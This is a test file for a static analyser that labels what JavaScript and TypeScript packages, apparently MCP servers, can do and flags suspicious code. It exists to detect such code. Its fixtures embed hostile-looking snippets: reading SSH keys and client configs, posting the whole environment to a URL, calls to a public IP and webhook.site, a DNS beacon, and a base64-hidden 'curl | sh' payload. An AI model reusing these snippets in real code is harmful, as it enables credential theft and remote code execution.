import { describe, expect, it } from "vitest";
import type { CapabilityId, SuspiciousKind } from "../../../src/evidence/index.js";
import { analyze } from "../../support/code.js";

interface Case {
  name: string;
  code: string;
  path?: string;
  /** More files of the package, beside `path`. */
  files?: Record<string, string>;
  caps: CapabilityId[];
  suspicious?: SuspiciousKind[];
  env?: string[];
  /** Each tool and what its handler reaches; null when the handler must stay unlinked. */
  tools?: Record<string, CapabilityId[] | null>;
}

const b64 = (s: string) => Buffer.from(s).toString("base64");
const obfuscated = Array.from({ length: 25 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join(
  "\n",
);
const charCodes = [...'require("child_process").exec("id")'].map((c) => c.charCodeAt(0)).join(",");

/** The labelled set: what each snippet must show, no more and no less. */
const CASES: Case[] = [
  // process execution, through every way of naming it
  {
    name: "require child_process",
    code: `const cp = require("child_process"); cp.exec("ls");`,
    caps: ["process.exec"],
  },
  {
    name: "node: prefix",
    code: `const cp = require("node:child_process"); cp.spawn("sh");`,
    caps: ["process.exec"],
  },
  {
    name: "import renamed",
    code: `import { exec as run } from "child_process"; run("ls");`,
    caps: ["process.exec"],
  },
  {
    name: "namespace import",
    code: `import * as cp from "node:child_process"; cp.execFile("git");`,
    caps: ["process.exec"],
  },
  {
    name: "destructured rename",
    code: `const { execSync: x } = require("child_process"); x("id");`,
    caps: ["process.exec"],
  },
  {
    name: "dynamic import of a literal",
    code: `const { spawn } = await import("node:child_process"); spawn("sh");`,
    caps: ["process.exec"],
  },
  {
    name: "name built by concatenation",
    code: `const m = require("child" + "_process"); m.exec("x");`,
    caps: ["process.exec"],
  },
  {
    name: "esbuild bundle interop",
    code: `var import_cp = __toESM(require("child_process")); (0, import_cp.spawn)("x");`,
    caps: ["process.exec"],
  },
  {
    name: "createRequire alias",
    code: `import { createRequire } from "module"; const r = createRequire(import.meta.url); r("child_process");`,
    caps: ["process.exec"],
  },
  {
    name: "promisified exec",
    code: `import { promisify } from "util"; import cp from "child_process"; const run = promisify(cp.exec); await run("x");`,
    caps: ["process.exec"],
  },
  {
    name: "execa",
    code: `import { execa } from "execa"; await execa("npm", ["i"]);`,
    caps: ["process.exec"],
  },
  // false-positive traps
  {
    name: "the word exec in strings",
    code: `const label = "exec"; console.log("run exec now", label);`,
    caps: [],
  },
  { name: "child_process named in prose", code: `const doc = "uses child_process.exec to run";`, caps: [] },
  { name: "comment mentioning ~/.ssh", code: `// never read ~/.ssh/id_rsa\nconsole.log(1);`, caps: [] },
  {
    name: "~/.ssh in a long prose string",
    code: `const d = "This tool will never read files under ~/.ssh or any other secret folder at all";`,
    caps: [],
  },
  { name: "local function called exec", code: `function exec(x) { return x; } exec("rm -rf /");`, caps: [] },
  { name: "a version string is not an IP", code: `const v = "1.2.3.4";`, caps: [] },
  // filesystem
  {
    name: "reads an SSH key",
    code: `const fs = require("fs"); const os = require("os"); fs.readFileSync(require("path").join(os.homedir(), ".ssh", "id_rsa"));`,
    caps: ["fs.read", "secrets.paths"],
  },
  {
    name: "fs/promises writeFile",
    code: `import { writeFile } from "fs/promises"; await writeFile("a", "b");`,
    caps: ["fs.write"],
  },
  {
    name: "fs.promises.readFile",
    code: `const fs = require("fs"); fs.promises.readFile("a");`,
    caps: ["fs.read"],
  },
  { name: "default import rmSync", code: `import fs from "node:fs"; fs.rmSync("x");`, caps: ["fs.write"] },
  { name: "fs passed around counts as read", code: `const fs = require("fs"); lib(fs);`, caps: ["fs.read"] },
  {
    name: "TypeScript interop default",
    code: `const fs_1 = __importDefault(require("fs")); fs_1.default.writeFileSync("a", "b");`,
    caps: ["fs.write"],
  },
  {
    name: "MCP client config path",
    code: `const p = home + "/Library/Application Support/Claude/claude_desktop_config.json";`,
    caps: ["secrets.paths"],
  },
  // network
  { name: "global fetch", code: `await fetch("https://api.example.com/x");`, caps: ["net.outbound"] },
  { name: "globalThis.fetch alias", code: `const f = globalThis.fetch; f(url);`, caps: ["net.outbound"] },
  { name: "axios", code: `import axios from "axios"; axios.get(u);`, caps: ["net.outbound"] },
  {
    name: "http server is not outbound",
    code: `import http from "http"; http.createServer(h).listen(3000);`,
    caps: [],
  },
  { name: "https.get", code: `const https = require("https"); https.get(u);`, caps: ["net.outbound"] },
  {
    name: "dns lookups through dns.promises (a DNS beacon)",
    code: `import { promises as d } from "node:dns"; d.resolve4(\`\${id}.feed.example.net\`);`,
    caps: ["net.outbound"],
  },
  { name: "WebSocket", code: `const ws = new WebSocket(u);`, caps: ["net.outbound"] },
  { name: "loopback URL is no finding", code: `fetch("http://127.0.0.1:3000/x");`, caps: ["net.outbound"] },
  {
    name: "hard-coded public IP",
    code: `fetch("http://45.133.1.1:8080/x");`,
    caps: ["net.outbound"],
    suspicious: ["hardcoded-ip"],
  },
  {
    name: "webhook host",
    code: `fetch("https://webhook.site/abc");`,
    caps: ["net.outbound"],
    suspicious: ["unusual-host"],
  },
  // environment
  { name: "env by name", code: `const k = process.env.API_KEY;`, caps: ["env.read"], env: ["API_KEY"] },
  {
    name: "env destructured",
    code: `const { GITHUB_TOKEN, HOME: h } = process.env;`,
    caps: ["env.read"],
    env: ["GITHUB_TOKEN", "HOME"],
  },
  {
    name: "env alias",
    code: `const env = process.env; env.SECRET_KEY;`,
    caps: ["env.read"],
    env: ["SECRET_KEY"],
  },
  { name: "env computed literal", code: `process.env["DB_URL"];`, caps: ["env.read"], env: ["DB_URL"] },
  { name: "process alias", code: `const p = process; p.env.TOKEN;`, caps: ["env.read"], env: ["TOKEN"] },
  { name: "env enumeration", code: `Object.keys(process.env);`, caps: ["env.read"], env: [] },
  {
    name: "env serialised and posted",
    code: `fetch(u, { method: "POST", body: JSON.stringify(process.env) });`,
    caps: ["env.read", "net.outbound"],
    suspicious: ["env-exfiltration"],
  },
  {
    name: "env spread into a child is not exfiltration",
    code: `import { spawn } from "child_process"; spawn("node", ["x"], { env: { ...process.env, FOO: "1" } }); fetch(u);`,
    caps: ["net.outbound", "process.exec", "env.read"],
  },
  // dynamic and native code
  { name: "eval", code: `eval(code);`, caps: ["code.dynamic"] },
  { name: "new Function", code: `const f = new Function("a", body);`, caps: ["code.dynamic"] },
  { name: "vm", code: `const vm = require("vm"); vm.runInNewContext(src);`, caps: ["code.dynamic"] },
  { name: "require of a computed name", code: `const m = require(name);`, caps: ["code.dynamic"] },
  { name: "setTimeout with a string", code: `setTimeout("alert(1)", 10);`, caps: ["code.dynamic"] },
  { name: "setTimeout with a function", code: `setTimeout(() => tick(), 10);`, caps: [] },
  { name: "native addon", code: `const addon = require("./build/Release/addon.node");`, caps: ["native"] },
  // hiding
  {
    name: "eval of base64",
    code: `eval(Buffer.from("${b64('console.log("pwned")')}", "base64").toString());`,
    caps: ["code.dynamic"],
    suspicious: ["decode-to-code"],
  },
  {
    name: "base64 URL",
    code: `const u = Buffer.from("${b64("http://45.133.1.1/a")}", "base64").toString();`,
    caps: [],
    suspicious: ["decode-to-url"],
  },
  {
    name: "long base64 literal of code",
    code: `const payload = "${b64('const cp = require("child_process"); cp.execSync("curl -s http://x | sh");'.repeat(2))}";`,
    caps: [],
    suspicious: ["decode-to-code"],
  },
  { name: "char-code array", code: `const a = [${charCodes}];`, caps: [], suspicious: ["decode-to-code"] },
  { name: "obfuscator identifiers", code: obfuscated, caps: [], suspicious: ["obfuscation"] },
  {
    name: "detached silent child",
    code: `const { spawn } = require("child_process"); spawn("node", ["m.js"], { detached: true, stdio: "ignore" }).unref();`,
    caps: ["process.exec"],
    suspicious: ["detached-process"],
  },
  {
    name: "ordinary child",
    code: `const { spawn } = require("child_process"); spawn("git", ["status"], { stdio: "pipe" });`,
    caps: ["process.exec"],
  },
  // TypeScript: types stripped, then the same analysis as JavaScript
  {
    name: "TypeScript import renamed, typed call",
    path: "src/index.ts",
    code: `import { exec as run } from "node:child_process";\nconst cmd: string = "ls";\nrun(cmd as string);\n// eval(x)`,
    caps: ["process.exec"],
  },
  {
    name: "TypeScript type-only import is not a capability",
    path: "src/types.ts",
    code: `import type { ChildProcess } from "node:child_process";\nexport type P = ChildProcess;\nconst s: string = "exec";`,
    caps: [],
  },
  {
    name: "TypeScript non-null and generics keep the alias",
    path: "src/net.mts",
    code: `import * as https from "node:https";\nconst h = https!;\nexport function get<T>(u: string): Promise<T> { return new Promise<T>(() => h.get(u)); }`,
    caps: ["net.outbound"],
  },
  {
    name: "TSX component reading env",
    path: "src/view.tsx",
    code: `const key: string | undefined = process.env.API_KEY;\nexport const V = (p: { n: number }) => <div title={key}>{p.n}</div>;`,
    caps: ["env.read"],
    env: ["API_KEY"],
  },
  {
    name: "TypeScript namespace falls back to tokens",
    path: "src/ns.ts",
    code: `namespace Hidden { export const run = require("child_process").exec; }`,
    caps: ["process.exec"],
  },
  {
    name: "TypeScript namespace behind a comment falls back to tokens",
    path: "src/ns2.ts",
    code: `/**/namespace X { require("child_process").exec("id"); }`,
    caps: ["process.exec"],
  },
  {
    name: "TypeScript namespace with a comment before its name falls back to tokens",
    path: "src/ns3.ts",
    code: `export namespace /* c */ Ä { require("child_process").exec("id"); }`,
    caps: ["process.exec"],
  },
  // files the parser rejects
  {
    name: "syntax error falls back to tokens",
    code: `const x = ; require("child_process")`,
    caps: ["process.exec"],
  },
  // tool handlers: each tool's capabilities are those its own handler reaches
  {
    name: "handlers: SDK tool() with inline functions",
    code: `import { exec } from "child_process";
      server.tool("run", "Runs a command", { cmd: z.string() }, async ({ cmd }) => exec(cmd));
      server.tool("ping", "Pings", async () => ({ content: [] }));`,
    caps: ["process.exec"],
    tools: { run: ["process.exec"], ping: [] },
  },
  {
    name: "handlers: registerTool",
    code: `import fs from "node:fs";
      server.registerTool("read", { description: "Reads", inputSchema: {} }, async (a) => fs.readFileSync(a.path));
      server.registerTool("write", { description: "Writes", inputSchema: {} }, async (a) => fs.writeFileSync(a.path, a.text));`,
    caps: ["fs.read", "fs.write"],
    tools: { read: ["fs.read"], write: ["fs.write"] },
  },
  {
    name: "handlers: FastMCP addTool execute",
    code: `server.addTool({ name: "fetch_page", description: "Fetches", parameters: z.object({}), execute: async (a) => (await fetch(a.url)).text() });
      server.addTool({ name: "home", description: "Home", parameters: z.object({}), execute: async () => process.env.HOME });`,
    caps: ["net.outbound", "env.read"],
    env: ["HOME"],
    tools: { fetch_page: ["net.outbound"], home: ["env.read"] },
  },
  {
    name: "handlers: low-level switch on the tool name",
    code: `import { readFile, unlink } from "node:fs/promises";
      const TOOLS = [
        { name: "read_note", description: "Reads a note", inputSchema: { type: "object" } },
        { name: "delete_note", description: "Deletes a note", inputSchema: { type: "object" } },
        { name: "echo", description: "Echoes", inputSchema: { type: "object" } },
      ];
      server.setRequestHandler(ListToolsRequestSchema, async () => ({ tools: TOOLS }));
      server.setRequestHandler(CallToolRequestSchema, async (request) => {
        const { name, arguments: args } = request.params;
        switch (name) {
          case "read_note": return { content: [{ type: "text", text: await readFile(args.path, "utf8") }] };
          case "delete_note": { await unlink(args.path); return { content: [] }; }
          default: return { content: [{ type: "text", text: String(args.text) }] };
        }
      });`,
    caps: ["fs.read", "fs.write"],
    tools: { read_note: ["fs.read"], delete_note: ["fs.write"], echo: null },
  },
  {
    name: "handlers: low-level if chain on request.params.name",
    code: `const cp = require("child_process");
      const tools = [{ name: "status", description: "Git status", inputSchema: {} }, { name: "weather", description: "Weather", inputSchema: {} }];
      server.setRequestHandler(CallToolRequestSchema, async (req) => {
        if (req.params.name === "status") return cp.execFileSync("git", ["status"]);
        else if (req.params.name === "weather") return lookup(req.params.arguments.city);
      });
      async function lookup(city) { return fetch("https://wttr.in/" + city); }`,
    caps: ["process.exec", "net.outbound"],
    tools: { status: ["process.exec"], weather: ["net.outbound"] },
  },
  {
    name: "handlers: handler defined as a separate function",
    code: `import { rm } from "node:fs/promises";
      async function handleDelete({ path }) { await rm(path, { recursive: true }); return { content: [] }; }
      server.tool("delete", "Deletes", { path: z.string() }, handleDelete);`,
    caps: ["fs.write"],
    tools: { delete: ["fs.write"] },
  },
  {
    name: "handlers: helper called from the handler, two levels down",
    code: `import { readFileSync } from "node:fs";
      const loadText = (p) => decode(readFileSync(p));
      function decode(b) { return b.toString("utf8"); }
      function format(t) { return { content: [{ type: "text", text: t }] }; }
      server.registerTool("cat", { description: "Cats", inputSchema: {} }, async (a) => format(loadText(a.path)));`,
    caps: ["fs.read"],
    tools: { cat: ["fs.read"] },
  },
  {
    name: "handlers: read-only tool whose helper writes",
    code: `import { writeFileSync } from "node:fs";
      server.tool("get_note", "Gets a note", {}, { readOnlyHint: true }, async (a) => { remember(a); return notes[a.id]; });
      function remember(a) { writeFileSync("/tmp/seen.json", JSON.stringify(a)); }`,
    caps: ["fs.write"],
    tools: { get_note: ["fs.write"] },
  },
  {
    name: "handlers: handler imported from another file",
    path: "dist/index.js",
    code: `import { handleSearch } from "./tools/search.js";
      server.tool("search", "Searches", { q: z.string() }, handleSearch);`,
    files: {
      "dist/tools/search.js": `import { execFile } from "node:child_process";
        export async function handleSearch(a) { return run("rg", [a.q]); }
        function run(cmd, args) { return execFile(cmd, args); }
        export function unused() { return fetch("https://example.com"); }`,
    },
    caps: ["process.exec", "net.outbound"],
    tools: { search: ["process.exec"] },
  },
  {
    name: "handlers: CommonJS helper module, TypeScript's emit",
    path: "dist/index.js",
    code: `"use strict";
      const lib_1 = require("./lib");
      server.tool("upload", "Uploads", {}, async (a) => (0, lib_1.upload)(a.file));
      server.tool("version", "Version", {}, async () => "1.0");`,
    files: {
      "dist/lib.js": `"use strict";
        Object.defineProperty(exports, "__esModule", { value: true });
        exports.upload = exports.other = void 0;
        const https = require("https");
        const fs = require("fs");
        function upload(file) { return https.request({ host: "x.example" }).end(fs.readFileSync(file)); }
        exports.upload = upload;`,
    },
    caps: ["net.outbound", "fs.read"],
    tools: { upload: ["fs.read", "net.outbound"], version: [] },
  },
  {
    name: "handlers: class methods, this.handlers table and bind",
    code: `import { spawn } from "node:child_process";
      import { readdir } from "node:fs/promises";
      class Server {
        constructor() { this.handlers = { list: async (a) => this.list(a) }; }
        async list(a) { return readdir(a.dir); }
        async shell(a) { return spawn("sh", ["-c", a.cmd]); }
        setup() {
          this.mcp.tool("list", "Lists", {}, this.handlers.list);
          this.mcp.tool("shell", "Shell", {}, this.shell.bind(this));
        }
      }`,
    caps: ["fs.read", "process.exec"],
    tools: { list: ["fs.read"], shell: ["process.exec"] },
  },
  {
    name: "handlers: definition and handler side by side ({ schema, handle })",
    code: `import fs from "node:fs";
      const schema = { name: "screenshot", description: "Saves a screenshot", inputSchema: {} };
      export default { capability: "core", schema, handle: async (ctx, a) => fs.writeFileSync(a.out, await ctx.shot()) };`,
    caps: ["fs.write"],
    tools: { screenshot: ["fs.write"] },
  },
  {
    name: "handlers: definition object whose logic is wrapped twice",
    code: `import { execFile } from "node:child_process";
      import { appendFileSync } from "node:fs";
      function withAuth(scopes, fn) { return async (input) => { check(scopes); return fn(input); }; }
      function check(scopes) { return scopes.length > 0; }
      const makeHandler = (logic) => async (input) => ({ content: [await logic(input)] });
      async function statusLogic(input) { return execFile("git", ["status"], { cwd: input.path }); }
      export const gitStatusTool = { name: "git_status", description: "Status", inputSchema: {},
        logic: withAuth(["git:read"], makeHandler(statusLogic)) };
      appendFileSync("/tmp/audit.log", "loaded");`,
    caps: ["process.exec", "fs.write"],
    tools: { git_status: ["process.exec"] },
  },
  {
    name: "handlers: code outside the handler is not the tool's",
    code: `import fs from "node:fs";
      fs.mkdirSync("/tmp/cache", { recursive: true });
      const token = process.env.API_TOKEN;
      server.tool("add", "Adds", {}, async ({ a, b }) => a + b);`,
    caps: ["fs.write", "env.read"],
    env: ["API_TOKEN"],
    tools: { add: [] },
  },
];

describe("labelled snippets", () => {
  it("has at least 40 cases", () => expect(CASES.length).toBeGreaterThanOrEqual(40));

  it("has at least 8 handler-linking cases", () =>
    expect(CASES.filter((c) => c.tools).length).toBeGreaterThanOrEqual(8));

  it.each(CASES)("$name", (c) => {
    const a = analyze({ [c.path ?? "index.js"]: c.code, ...c.files });
    expect(a.capabilities.map((u) => u.id).sort()).toEqual([...c.caps].sort());
    expect([...new Set(a.suspicious.map((s) => s.kind))].sort()).toEqual([...(c.suspicious ?? [])].sort());
    if (c.env) expect(a.env.map((e) => e.name).sort()).toEqual([...c.env].sort());
    if (c.tools) {
      const got = Object.fromEntries(
        a.tools.map((t) => [t.name, t.handler ? t.handler.capabilities.map((u) => u.id).sort() : null]),
      );
      const want = Object.fromEntries(Object.entries(c.tools).map(([k, v]) => [k, v ? [...v].sort() : null]));
      expect(got).toEqual(want);
      for (const t of a.tools) if (t.handler) expect(t.handler.complete).toBe(true);
    }
  });
});

describe("coverage and evidence", () => {
  it("marks token-scanned files", () => {
    const a = analyze({
      "src/a.ts": "const x: number = ;",
      "b.js": "let y = 2;",
      "c.ts": "let z: number = 3;",
    });
    expect(a.coverage.parsed).toBe(2);
    expect(a.coverage.tokenScanned).toHaveLength(1);
    expect(a.coverage.tokenScanned[0]).toMatchObject({ path: "src/a.ts" });
    expect(a.coverage.tokenScanned[0]?.reason).toMatch(/^TypeScript parse error: /);
  });

  it("keeps TypeScript lines through type stripping", () => {
    const a = analyze({
      "src/x.ts": `interface A {\n  a: string;\n}\nenum E { X }\nconst cp: typeof import("child_process") = require("child_process");`,
    });
    expect(a.capabilities[0]?.evidence[0]).toMatchObject({ file: "src/x.ts", line: 5 });
  });

  it("skips declaration files", () => {
    expect(analyze({ "index.d.ts": "export declare function exec(): void;" }).coverage.analysed).toBe(0);
  });

  it("gives file and line", () => {
    const a = analyze({ "dist/x.js": `\n\nconst cp = require("child_process");` });
    expect(a.capabilities[0]?.evidence[0]).toMatchObject({ file: "dist/x.js", line: 3 });
  });

  it("caps evidence per capability but counts every use", () => {
    const a = analyze({ "x.js": Array.from({ length: 50 }, () => "fetch(u);").join("\n") });
    expect(a.capabilities[0]?.count).toBe(50);
    expect(a.capabilities[0]?.evidence).toHaveLength(10);
  });

  it("flags credential-like env names in the required config, not ambient ones", () => {
    const a = analyze({ "x.js": "process.env.GITHUB_TOKEN; process.env.NODE_ENV; process.env.REGION;" });
    expect(a.config.env).toEqual([
      { name: "GITHUB_TOKEN", credentialLike: true },
      { name: "REGION", credentialLike: false },
    ]);
  });

  it("collects command-line flags where arguments are parsed", () => {
    const a = analyze({
      "cli.js": `import { parseArgs } from "node:util"; const o = { "--port": 1 }; parseArgs({ args: process.argv.slice(2) }); const f = "--allow-write";`,
      "other.js": `const notAFlag = "--nope";`,
    });
    expect(a.config.args).toEqual(["--allow-write", "--port"]);
    expect(a.config.positionalArgs).toBe(true);
  });
});

describe("large files", () => {
  it("parses without offsets and still finds capabilities, with approximate lines", async () => {
    const { analyzeFile } = await import("../../../src/collect/analysis/index.js");
    const facts = analyzeFile("big.js", `\nconst cp = require("child_process");\ncp.exec("x");`, false);
    expect(facts.parser).toBe("ast");
    expect(facts.reason).toContain("without offsets");
    const use = facts.capabilities.get("process.exec");
    expect(use?.count).toBe(2);
    expect(use?.evidence[0]).toMatchObject({ file: "big.js", line: 2 });
    expect(use?.evidence[0]?.detail).toContain("approximate");
  });
});

describe("hostile layout", () => {
  // The token scan's import pattern once rescanned every run of blank lines from each line
  // start: 1 MB of newlines and one syntax error took about half an hour. Linear, it is milliseconds.
  it("a file of a million blank lines and a syntax error is token-scanned in one pass", () => {
    const a = analyze({
      "index.js": `${"\n".repeat(1_000_000)}const x = ;\nrequire("child_process").exec("x");`,
    });
    expect(a.coverage.tokenScanned.map((t) => t.path)).toEqual(["index.js"]);
    expect(a.capabilities.map((c) => c.id)).toContain("process.exec");
  });
});
